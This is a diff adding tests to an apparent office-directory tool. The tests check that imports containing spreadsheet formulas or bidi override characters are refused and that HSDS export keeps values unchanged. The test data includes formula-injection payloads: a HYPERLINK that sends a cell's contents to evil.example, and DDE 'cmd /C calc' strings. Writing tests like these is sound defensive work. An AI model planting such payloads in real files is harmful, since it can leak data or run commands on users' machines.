@@ -360,6 +360,37 @@ def test_import_that_would_break_the_directory_changes_nothing(directory, tmp_pa
     assert (directory / "offices.csv").read_bytes() == before
 
 
+def test_imports_with_formulas_or_bidi_controls_change_nothing(directory, tmp_path, capsys):
+    # The review's h10 (formulas in names) and a bidi override: refused by validation, by HSDS and by CSV.
+    _, rows = corrections.read_rows(directory / "offices.csv")
+    hsds.export_hsds(rows, tmp_path / "out")
+    services = json.loads((tmp_path / "out" / "services.json").read_text(encoding="utf-8"))
+    services[0]["name"] = '=HYPERLINK("http://evil.example/?x="&A1,"Click for help")'
+    services[2]["organization"]["name"] = "+cmd|' /C calc'!A0"
+    services[1]["name"] = "Online\u202eBeratung"
+    (tmp_path / "out" / "services.json").write_text(json.dumps(services), encoding="utf-8")
+    before = (directory / "offices.csv").read_bytes()
+    code, out, err = run_cli(["import", str(tmp_path / "out"), "--data-dir", str(directory),
+                              "--db", str(tmp_path / "c.sqlite")], capsys)  # fmt: skip
+    assert code == 1 and "nothing was changed" in err
+    assert out.count("spreadsheet formula") == 2 and "bidi" in out
+    hostile = [dict(rows[0], street="@SUM(1+1)*cmd|' /C calc'!A0")]
+    make_offices_csv(tmp_path / "in.csv", hostile)
+    code, _, err = run_cli(
+        ["import", str(tmp_path / "in.csv"), "--data-dir", str(directory), "--dry-run"], capsys
+    )
+    assert code == 1 and "in.csv:2: street: starts like a spreadsheet formula" in err
+    assert (directory / "offices.csv").read_bytes() == before
+
+
+def test_hsds_export_keeps_values_as_they_are():
+    # HSDS is JSON for programs: no ' in front (that would break export -> import); validation keeps
+    # formulas out of the directory, and the spreadsheet formats neutralise them (test_formulas.py).
+    row = {**ROWS[0], "name": "=1+1", "phone": "+49 341 1"}
+    (service,) = hsds.to_hsds([row])["services"]
+    assert service["name"] == "=1+1" and service["phones"][0]["number"] == "+49 341 1"
+
+
 # --- GIS -----------------------------------------------------------------------------------------------
 
 
